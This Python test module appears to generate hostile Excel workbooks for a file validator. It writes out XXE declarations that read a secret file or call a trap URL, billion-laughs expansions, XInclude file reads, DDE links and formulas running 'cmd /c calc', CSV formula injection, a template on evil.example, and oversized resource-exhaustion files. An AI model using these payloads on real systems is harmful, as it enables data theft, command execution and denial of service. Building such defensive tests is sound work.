"""Hostile Excel workbooks: entities, links, macros, formulas, and more of everything
than a sheet should have.
"""

from __future__ import annotations

import re
from pathlib import Path

from .forms import (
    LAUGHS,
    MILLION,
    SHEET,
    TABLE_SHEET,
    Make,
    Traps,
    after_head,
    csv_of,
    form,
    hostile,
    in_cell,
    in_sheet,
    rebuilt,
    with_part_changed,
    with_parts,
    with_relation,
)


def _entities_in(part: str) -> Make:
    def make(state: str, traps: Traps) -> bytes:
        return with_part_changed(state, part, lambda content: after_head(content, LAUGHS))

    return make


for _part in (SHEET, "xl/styles.xml", "xl/workbook.xml", "docProps/core.xml"):
    hostile("unsafe-file", name=f"entities_in_{Path(_part).stem}")(_entities_in(_part))


@hostile("unsafe-file")
def entities_in_shared_strings(state: str, traps: Traps) -> bytes:
    strings = LAUGHS + b"<sst><si><t>&l9;</t></si></sst>"
    return with_parts(state, {"xl/sharedStrings.xml": strings})


@hostile("unsafe-file")
def entities_in_a_part_of_another_name(state: str, traps: Traps) -> bytes:
    """The list of relationships may call a sheet as it likes: what is no .xml by name
    is one by content.
    """

    def change(name: str, content: bytes) -> bytes:
        if name in ("[Content_Types].xml", "xl/_rels/workbook.xml.rels"):
            return content.replace(b"worksheets/sheet2.xml", b"worksheets/sheet2.dat")
        return content

    return rebuilt(
        form(state), change, {"xl/worksheets/sheet2.dat": LAUGHS + b"<worksheet>&l9;</worksheet>"}
    )


def _external(declaration: str) -> Make:
    def make(state: str, traps: Traps) -> bytes:
        text = declaration.format(file=f"file://{traps.secret}", url=traps.url)
        return with_part_changed(
            state,
            SHEET,
            lambda c: after_head(c, text.encode()).replace(
                b"<sheetData>", b"<sheetData><!-- -->&x;", 1
            ),
        )

    return make


for _what, _declaration in {
    "external_entity_of_a_file": '<!DOCTYPE a [<!ENTITY x SYSTEM "{file}">]>',
    "external_entity_of_an_address": '<!DOCTYPE a [<!ENTITY x SYSTEM "{url}">]>',
    "external_document_type": '<!DOCTYPE a SYSTEM "{url}">',
    "parameter_entities": '<!DOCTYPE a [<!ENTITY % p SYSTEM "{url}">%p;]>',
}.items():
    hostile("unsafe-file", name=_what)(_external(_declaration))


def _encoded(declared: str, encode: str) -> Make:
    def make(state: str, traps: Traps) -> bytes:
        text = (
            '<?xml version="1.0"'
            f' encoding="{declared}"?>{LAUGHS.decode()}<worksheet>&l9;</worksheet>'
        )
        return with_part_changed(state, SHEET, lambda _: text.encode(encode))

    return make


for _name, _declared, _encode in (
    ("document_type_in_utf_16", "UTF-16", "utf-16"),
    ("document_type_in_utf_16_without_a_mark", "UTF-16BE", "utf-16-be"),
    ("document_type_in_utf_7", "UTF-7", "utf-7"),
    ("document_type_in_ebcdic", "cp037", "cp037"),
):
    hostile("unsafe-file", name=_name)(_encoded(_declared, _encode))


@hostile("unsafe-file")
def include_of_a_file(state: str, traps: Traps) -> bytes:
    include = (
        f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://{traps.secret}"'
        ' parse="text"/>'
    )
    return in_sheet(state, b"<sheetData>", b"<sheetData>" + include.encode())


@hostile("unsafe-file")
def style_sheet_from_an_address(state: str, traps: Traps) -> bytes:
    instruction = f'<?xml-stylesheet type="text/xsl" href="{traps.url}"?>'
    return with_part_changed(state, SHEET, lambda c: after_head(c, instruction.encode()))


# Links, macros, objects.


@hostile("active-content")
def link_to_another_workbook(state: str, traps: Traps) -> bytes:
    return with_parts(state, {"xl/externalLinks/externalLink1.xml": b"<externalLink/>"})


@hostile("active-content")
def link_to_a_program(state: str, traps: Traps) -> bytes:
    link = b'<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
    return with_parts(state, {"xl/externalLinks/externalLink1.xml": link})


@hostile("active-content")
def picture_from_an_address(state: str, traps: Traps) -> bytes:
    return with_relation(state, "image", traps.url)


@hostile("active-content")
def picture_in_a_cell_from_an_address(state: str, traps: Traps) -> bytes:
    """The function IMAGE keeps its address as a hyperlink, which a spreadsheet fetches
    as it opens the file.
    """
    return with_relation(state, "hyperlink", traps.url, part="xl/richData/rdRichValueWebImage.xml")


@hostile("active-content")
def template_from_a_share(state: str, traps: Traps) -> bytes:
    return with_relation(state, "attachedTemplate", "file://///evil.example/share/t.xltm")


@hostile("active-content")
def program_under_a_harmless_name(state: str, traps: Traps) -> bytes:
    return with_relation(state, "vbaProject", "../theme/theme2.bin", external=False)


@hostile("active-content")
def macros_in_a_renamed_workbook(state: str, traps: Traps) -> bytes:
    macro = (b"spreadsheetml.sheet.main+xml", b"sheet.macroEnabled.main+xml")
    data = with_part_changed(state, "[Content_Types].xml", lambda c: c.replace(*macro))
    return rebuilt(
        data, lambda _, content: content, {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0Auto_Open"}
    )


def _active(part: str) -> Make:
    def make(state: str, traps: Traps) -> bytes:
        return with_parts(state, {part: b"<a/>"})

    return make


for _part in (
    "xl/macrosheets/sheet1.xml",
    "xl/connections.xml",
    "xl/queryTables/queryTable1.xml",
    "xl/activeX/activeX1.xml",
    "xl/embeddings/oleObject1.bin",
    "customUI/customUI14.xml",
    "xl/webextensions/webextension1.xml",
):
    hostile("active-content", name=f"part_of_{Path(_part).parent.name.lower()}_{Path(_part).stem}")(
        _active(_part)
    )


# Formulas and text that poses as one.


def _formula(formula: str) -> Make:
    def make(state: str, traps: Traps) -> bytes:
        return in_cell(
            state, f'<c r="C7"><f>{formula.replace("URL", traps.url)}</f><v>1</v></c>'.encode()
        )

    return make


for _name, _text in (
    ("that_runs_a_program", "cmd|'/c calc'!A0"),
    ("that_fetches", 'WEBSERVICE("URL")'),
    ("of_a_link", 'HYPERLINK("URL","x")'),
    ("of_another_workbook", "[1]Sheet1!A1"),
    ("that_hides_the_address", "INDIRECT(CHAR(104)&amp;A1)"),
):
    hostile("formula-reaches-out", at_cell=True, name=f"formula_{_name}")(_formula(_text))


@hostile("formula-as-text", at_cell=True)
def text_that_poses_as_a_formula(state: str, traps: Traps) -> bytes:
    return in_cell(state, b'<c r="C7" t="inlineStr"><is><t>=cmd|\' /C calc\'!A0</t></is></c>')


@hostile("formula-as-text", "csv", at_cell=True, cover=True)
def csv_formula_behind_a_sign(state: str, traps: Traps) -> bytes:
    return csv_of(state, note="-2+3+cmd|' /C calc'!D2").encode()


# Dimensions and numbers of things.


@hostile("outside-form", at_cell=True)
def cell_at_the_far_end(state: str, traps: Traps) -> bytes:
    def change(content: bytes) -> bytes:
        content = re.sub(
            rb'<dimension ref="[^"]*"\s*/>', b'<dimension ref="A1:XFD1048576"/>', content
        )
        return content.replace(
            b"</sheetData>", b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>'
        )

    return with_part_changed(state, TABLE_SHEET, change)


def _many(part: str, before: str, one: bytes, number: int) -> Make:
    def make(state: str, traps: Traps) -> bytes:
        def change(content: bytes) -> bytes:
            assert re.search(before.encode(), content), before
            return re.sub(before.encode(), lambda m: one * number + m.group(), content, count=1)

        return with_part_changed(state, part, change)

    return make


_ROW_OF_NINE = b"<row>" + b"<c><v>1</v></c>" * 9 + b"</row>"
_MANY: list[tuple[str, str, str, bytes, int]] = [
    ("a_million_empty_rows", SHEET, "</sheetData>", b'<row s="1" customFormat="1"/>', MILLION),
    (
        "almost_half_a_million_empty_rows",
        SHEET,
        "</sheetData>",
        b'<row s="1" customFormat="1"/>',
        450_000,
    ),
    ("more_than_a_hundred_thousand_cells", SHEET, "</sheetData>", _ROW_OF_NINE, 12_000),
    ("a_million_styles", "xl/styles.xml", "</cellXfs>", b'<xf numFmtId="0"/>', MILLION),
    ("a_hundred_thousand_styles", "xl/styles.xml", "</cellXfs>", b'<xf numFmtId="0"/>', 100_000),
    ("a_million_merged_cells", SHEET, "</sheetData>", b'<mergeCell ref="A1:A2"/>', MILLION),
    ("a_million_names", "xl/workbook.xml", "</workbook>", b"<definedName/>", MILLION),
    ("a_million_drop_downs", SHEET, "</sheetData>", b"<dataValidation/>", MILLION),
    (
        "thirty_thousand_conditional_formats",
        SHEET,
        "</sheetData>",
        b"<conditionalFormatting/>",
        30_000,
    ),
    ("a_million_sheets", "xl/workbook.xml", "</sheets>", b'<sheet name="a" sheetId="9"/>', MILLION),
]
for _what, _part, _before, _one, _number in _MANY:
    hostile("unsafe-file", name=_what)(_many(_part, _before, _one, _number))


@hostile("unsafe-file")
def the_whole_sheet_merged(state: str, traps: Traps) -> bytes:
    merged = b'</sheetData><mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>'
    return in_sheet(state, b"</sheetData>", merged)


@hostile("unsafe-file")
def a_million_shared_strings(state: str, traps: Traps) -> bytes:
    return with_parts(
        state, {"xl/sharedStrings.xml": b"<sst>" + b"<si><t>a</t></si>" * MILLION + b"</sst>"}
    )


@hostile("unsafe-file")
def attribute_of_fifty_megabytes(state: str, traps: Traps) -> bytes:
    return in_sheet(
        state, b"<sheetData>", b'<sheetPr codeName="' + b"a" * 50_000_000 + b'"/><sheetData>'
    )


@hostile("unsafe-file")
def text_of_thirty_megabytes(state: str, traps: Traps) -> bytes:
    return in_cell(state, b'<c r="C7" t="inlineStr"><is><t>' + b"a" * 30_000_000 + b"</t></is></c>")


@hostile("unsafe-file")
def text_longer_than_a_cell_may_hold(state: str, traps: Traps) -> bytes:
    return in_cell(state, b'<c r="C7" t="inlineStr"><is><t>' + b"a" * 40_000 + b"</t></is></c>")
